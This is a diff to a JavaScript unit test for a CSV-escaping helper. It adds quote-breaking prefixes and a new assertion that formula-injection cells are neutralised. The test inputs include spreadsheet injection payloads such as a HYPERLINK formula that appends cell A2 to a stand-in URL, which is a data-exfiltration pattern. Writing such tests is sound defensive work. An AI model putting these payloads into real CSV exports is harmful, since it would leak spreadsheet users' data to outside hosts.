@@ -11,7 +11,22 @@ describe('a CSV cell', () => {
   it('holds no formula, in whichever way a spreadsheet parts the cells', () => {
     const signs = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']
     for (const sign of signs)
-      for (const before of ['', ' ', 'x;', 'x; ', 'x\t', 'x\n', 'x\r\n', 'x,', ';;', '\n'])
+      for (const before of [
+        '',
+        ' ',
+        'x;',
+        'x; ',
+        'x\t',
+        'x\n',
+        'x\r\n',
+        'x,',
+        ';;',
+        '\n',
+        'x;"',
+        'x; ""',
+        'x\t"',
+        'x,"',
+      ])
         for (const parting of [/,/, /;/, /\t/, /[,;\t]/]) {
           const cells = csvLine(['1', `${before}${sign}HYPERLINK("http://x")`, '2'])
             .split(/[\r\n]+/)
@@ -20,6 +35,7 @@ describe('a CSV cell', () => {
           expect(begins.filter((cell) => signs.some((one) => cell.startsWith(one)))).toEqual([])
         }
     expect(csvCell('x;=HYPERLINK("y")')).toBe(`"x;'=HYPERLINK(""y"")"`)
+    expect(csvCell('x;"=HYPERLINK("http://y?"&A2);')).toBe(`"x;""'=HYPERLINK(""http://y?""&A2);"`)
   })
 
   it('leaves what people write readable', () => {
